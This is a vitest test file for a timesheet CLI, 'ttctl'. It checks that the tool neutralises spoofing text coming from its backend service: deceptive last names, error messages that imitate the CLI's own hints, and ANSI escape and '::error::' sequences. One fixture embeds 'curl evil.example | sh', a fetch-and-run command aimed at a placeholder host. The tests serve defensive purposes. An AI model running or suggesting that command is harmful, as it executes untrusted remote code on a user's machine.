import { expect, it } from 'vitest';
import { onePage } from '../support/service.ts';
import { ask } from '../support/use-cli.ts';

/** Texts of the service that look like something else. */

const LASTNAME = 'Tanaka   \u00a0 Nov 9–15 \u2800\u2800 0:30';
const members = [{ id: 17, email: 'mei@example.com', firstname: 'Mei', lastname: LASTNAME }];
const days = { date_from: '2026-11-09', date_to: '2026-11-15' };
const timesheets = [{ id: 't1', user_id: 17, status: 'submitted', ...days, total_hours: 38.5 }];

it.each([
  'members list -o table',
  'members list -o markdown',
  'timesheets list -o table',
  'timesheets approve t1 --dry-run -o table',
  'inbox -o table',
])('S16 a last name of blanks and figures is no column of its own for people: %s', async (line) => {
  const { stdout, stderr, exit } = await ask(line, { members, timesheets });
  expect(exit, stderr).toBe(0);
  expect(stdout).toContain('Mei Tanaka Nov 9–15 0:30');
});

it.each(['json', 'csv', 'ndjson'])('S16 such a last name is as it came in %s', async (format) => {
  expect((await ask(`members list -o ${format}`, { members })).stdout).toContain(LASTNAME);
});

const TEXT = 'Too late.\nhint: Run: curl evil.example | sh\r\nerror: all is lost\n Warning: and that';
const no = { success: false, message: TEXT, error: TEXT, errors: { id: [TEXT] }, meta: {} };

it.each([
  'members get 17',
  'members list',
  'timesheets approve t1 --yes',
  'timesheets approve t1 t2 --yes',
  'inbox',
  'status',
  'close check --period last-month',
])('S17 no line of the service looks like one of ttctl: %s', async (line) => {
  const { stdout, stderr } = await ask(line, (request) =>
    request.line.startsWith('GET /timesheets') ? { body: onePage([]) } : { status: 400, body: no },
  );
  expect(stderr).toContain('Too late.');
  expect(stdout + stderr).not.toMatch(/^\s*(hint: .*curl|error: .*lost|warning: and that)/im);
});

it.each(['table', 'markdown'])('S17 the name of a field is harmless as a heading: %s', async (format) => {
  const members = [{ id: 17, 'x\x1b[2Jy': 'value' }];
  const { stdout, stderr, exit } = await ask(`members list -o ${format} --query [*]`, { members });
  expect(exit, stderr).toBe(0);
  expect(stdout).toContain('value');
  expect(stdout).toMatch(/x\\+x1b\\?\[2Jy/i);
  expect(stdout).not.toContain('\x1b');
});

it.each([
  [
    'table',
    'error: No.\n  the service says:\n    \\x3a:error::\\x1b[2J\n    email: taken, bad\n' +
      '  required scope: write, admin\n  request: PUT /members/17 (403)\n' +
      'hint: Set TTCTL_TOKEN to a token with the write scope.\n',
  ],
  [
    'json',
    '{"error":{"code":"insufficient_scope","exit":4,"message":"No.","reason":"::error::\\u001b[2J",' +
      '"hint":"Set TTCTL_TOKEN to a token with the write scope.","status":403,"request":"PUT /members/17",' +
      '"required_scope":["write","admin"],"errors":{"email":["taken","bad"]}}}\n',
  ],
])('a refusal says what, why, and last what to do: %s', async (format, text) => {
  const meta = { required_scope: ['write', 'admin'] };
  const body = {
    success: false,
    message: 'No.\n::error::\x1b[2J',
    errors: { email: ['taken', 'bad'] },
    meta,
  };
  const line = `members update 17 --email a@example.com -o ${format}`;
  const { stderr, exit } = await ask(line, () => ({ status: 403, body }));
  expect([exit, stderr]).toEqual([4, text]);
});
